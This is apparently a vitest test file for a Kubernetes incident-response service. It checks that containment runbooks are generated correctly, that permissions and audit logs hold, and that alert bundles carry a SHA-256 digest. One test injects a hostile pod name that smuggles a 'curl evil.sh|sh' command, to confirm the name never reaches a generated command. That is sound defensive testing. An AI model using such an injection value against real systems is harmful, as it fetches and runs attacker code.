// The containment runbook on a real PostgreSQL, for an alert from SHOP_YAML's api pod (its token
// reads a critical Secret through a RoleBinding): quarantine exactly that pod, preserve evidence,
// drop the token, rotate the Secret, remove the binding — and no node step, since no path escapes.
// Ticking "isolate" contains the incident (MTTC), audited; analysts tick, developers may not; a
// hostile pod name from an alert never reaches a command.
import { beforeAll, describe, expect, it } from "vitest";
import { parse } from "yaml";
import * as runbookRoute from "../app/api/v1/incidents/[id]/runbook/route";
import * as stepRoute from "../app/api/v1/incidents/[id]/runbook/steps/[stepId]/route";
import * as alertsRoute from "../app/api/v1/alerts/[source]/route";
import * as inventory from "../app/api/v1/inventory/route";
import { apiRequest, makeToken, noParams, params } from "./fixtures";
import { postShopShell, SHOP_YAML } from "./cluster-fixture";
import { db } from "../lib/db/client";
import { falcoRule, makeFalcoEvent } from "../lib/demo/synthetic-falco";

const CLUSTER = `rb-${Date.now().toString(36)}`;
let admin: string;
let analyst: string;
let developer: string;
let incidentId: string;

const get = async (id: string, q = "") => runbookRoute.GET(apiRequest(`/api/v1/incidents/${id}/runbook${q}`, { token: analyst }), params({ id }));
const tick = (token: string, id: string, stepId: string, done: boolean) =>
  stepRoute.PATCH(apiRequest(`/api/v1/incidents/${id}/runbook/steps/${stepId}`, { method: "PATCH", token, body: { done } }), params({ id, stepId }));

beforeAll(async () => {
  admin = (await makeToken("admin")).secret;
  analyst = (await makeToken("analyst")).secret;
  const up = await inventory.POST(
    apiRequest(`/api/v1/inventory?cluster=${CLUSTER}`, { method: "POST", token: admin, rawBody: SHOP_YAML(`${CLUSTER}-shop`), headers: { "content-type": "application/yaml" } }),
    noParams,
  );
  expect(up.status).toBe(200);
  const team = await db().team.findUniqueOrThrow({ where: { name: `${CLUSTER}-shop` } });
  developer = (await makeToken("developer", { teamIds: [team.id] })).secret;
  expect((await postShopShell(CLUSTER, admin)).status).toBe(202);
  const cluster = await db().cluster.findUniqueOrThrow({ where: { name: CLUSTER } });
  incidentId = (await db().incident.findFirstOrThrow({ where: { clusterId: cluster.id, workloadKey: "Deployment/shop/api" } })).id;
});

describe("GET /api/v1/incidents/{id}/runbook", () => {
  it("is generated from the alerted pod and the paths its workload has", async () => {
    const res = await get(incidentId);
    expect(res.status).toBe(200);
    const body = await res.json();
    const ids = body.steps.map((s: { id: string }) => s.id);
    expect(ids).toEqual([
      "isolate",
      "isolate-undo",
      "evidence-api-7d9f-x1-api",
      "checkpoint-api-7d9f-x1-api",
      "evidence-alerts",
      "identity-token",
      "rotate-shop-db-password",
      "unbind-shop-api-reads-secrets",
    ]);
    const step = (id: string) => body.steps.find((s: { id: string }) => s.id === id);
    expect(step("isolate").command).toContain("kubectl -n 'shop' label pod 'api-7d9f-x1'");
    expect(step("checkpoint-api-7d9f-x1-api").command).toContain("https://node-a:10250/checkpoint/shop/api-7d9f-x1/api"); // the node the inventory lists the pod on
    expect(step("unbind-shop-api-reads-secrets").command).toBe("kubectl -n 'shop' delete rolebinding 'api-reads-secrets'");
    // the narrowed Role from the fixes engine: the same Role without get/list on secrets
    const narrowed = parse(step("unbind-shop-api-reads-secrets").manifest);
    expect(narrowed).toMatchObject({ apiVersion: "rbac.authorization.k8s.io/v1", kind: "Role", metadata: { name: "read-secrets", namespace: "shop" }, rules: [] });
    expect(step("unbind-shop-api-reads-secrets").why).toContain("Remove get/list/watch on secrets from Role shop/read-secrets");
    expect(ids.some((id: string) => id.startsWith("cordon-"))).toBe(false);
    const md = await get(incidentId, "?format=md");
    expect(md.headers.get("content-type")).toContain("text/markdown");
    expect(await md.text()).toContain("## [ ] Rotate Secret shop/db-password");
  });

  it("never puts a hostile pod name from an alert into a command", async () => {
    const event = makeFalcoEvent(falcoRule("Terminal shell in container"), {
      time: new Date(Date.now() - 30_000),
      hostname: `${CLUSTER}-node`,
      namespace: "shop",
      pod: "x';curl${IFS}evil.sh|sh;'",
      container: "api",
      image: "shop/api:1",
    });
    const res = await alertsRoute.POST(apiRequest(`/api/v1/alerts/falco?cluster=${CLUSTER}`, { method: "POST", token: admin, rawBody: JSON.stringify(event) }), params({ source: "falco" }));
    expect(res.status).toBe(202);
    const cluster = await db().cluster.findUniqueOrThrow({ where: { name: CLUSTER } });
    const hostile = await db().incident.findFirstOrThrow({ where: { clusterId: cluster.id, workloadName: { contains: "evil" } } });
    const body = await (await get(hostile.id)).json();
    expect(JSON.stringify(body.steps)).not.toContain("evil.sh");
    expect(body.skipped.join(" ")).toContain("evil.sh");
  });
});

describe("PATCH /api/v1/incidents/{id}/runbook/steps/{stepId}", () => {
  it("ticks a step; ticking isolate contains the incident, audited; a developer may not", async () => {
    expect((await tick(developer, incidentId, "isolate", true)).status).toBe(403);
    const bad = await tick(analyst, incidentId, "format-disk", true);
    expect(bad.status).toBe(400);
    expect(JSON.stringify(await bad.json())).toContain("stepId");
    const res = await tick(analyst, incidentId, "isolate", true);
    expect(res.status).toBe(200);
    expect((await res.json()).steps.find((s: { id: string }) => s.id === "isolate")).toMatchObject({ done: true, doneBy: expect.any(String) });
    const incident = await db().incident.findUniqueOrThrow({ where: { id: incidentId } });
    expect(incident.status).toBe("contained");
    expect(incident.containedAt).not.toBeNull();
    expect(await db().auditLog.count({ where: { targetId: incidentId, action: "incident.runbook_step" } })).toBe(1);
    expect(await db().auditLog.count({ where: { targetId: incidentId, action: "incident.status" } })).toBe(1);
    // unticking is recorded too, and leaves the contained time as it was
    expect((await tick(analyst, incidentId, "isolate", false)).status).toBe(200);
    expect((await db().incident.findUniqueOrThrow({ where: { id: incidentId } })).containedAt).toEqual(incident.containedAt);
    expect(await db().auditLog.count({ where: { targetId: incidentId, action: "incident.runbook_step" } })).toBe(2);
  });
});

describe("GET /api/v1/incidents/{id}/alerts/bundle", () => {
  it("hands every alert over in one file whose SHA-256 the server states, and the runbook checks it", async () => {
    const bundleRoute = await import("../app/api/v1/incidents/[id]/alerts/bundle/route");
    const { createHash } = await import("node:crypto");
    const res = await bundleRoute.GET(apiRequest(`/api/v1/incidents/${incidentId}/alerts/bundle`, { token: analyst }), params({ id: incidentId }));
    expect(res.status).toBe(200);
    const text = await res.text();
    expect(res.headers.get("x-content-sha256")).toBe(createHash("sha256").update(text).digest("hex"));
    expect(res.headers.get("digest")).toBe(`sha-256=${createHash("sha256").update(text).digest("base64")}`);
    const bundle = JSON.parse(text);
    expect(bundle).toMatchObject({ incident: { id: incidentId, workload: "Deployment/shop/api" }, truncated: false });
    expect(bundle.count).toBe(bundle.alerts.length);
    expect(bundle.alerts[0]).toMatchObject({ pod: "api-7d9f-x1", rule: "Terminal shell in container" });
    expect(bundle.alerts[0].raw).toBeTruthy();
    const step = (await (await get(incidentId)).json()).steps.find((s: { id: string }) => s.id === "evidence-alerts");
    expect(step.command).toContain(`/api/v1/incidents/${incidentId}/alerts/bundle`);
    expect(step.command).toContain("sha256sum -c -");
  });

  it("is not another team's developer's to read", async () => {
    const bundleRoute = await import("../app/api/v1/incidents/[id]/alerts/bundle/route");
    const other = await db().team.create({ data: { name: `${CLUSTER}-other`, displayName: "Other" } });
    const outsider = (await makeToken("developer", { teamIds: [other.id] })).secret;
    const res = await bundleRoute.GET(apiRequest(`/api/v1/incidents/${incidentId}/alerts/bundle`, { token: outsider }), params({ id: incidentId }));
    expect(res.status).toBe(404);
  });
});
